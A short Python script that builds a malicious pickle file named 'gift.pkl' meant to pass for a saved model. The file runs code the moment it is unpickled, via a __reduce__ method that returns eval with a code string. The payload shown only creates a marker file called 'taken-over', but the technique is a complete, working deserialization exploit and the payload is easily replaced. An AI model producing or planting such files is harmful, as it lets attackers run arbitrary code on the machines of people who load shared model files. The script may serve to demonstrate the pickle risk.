"""Make a file that passes for a model, and runs what its maker wrote when it is loaded."""

from __future__ import annotations

import pickle
from pathlib import Path


class Model:
    """Of which a pickle makes a call."""

    def __reduce__(self) -> tuple[object, tuple[str]]:
        """Return what unpickling calls, and with what."""
        return eval, ("open('taken-over', 'w').close()",)


if __name__ == "__main__":
    Path("gift.pkl").write_bytes(pickle.dumps(Model()))
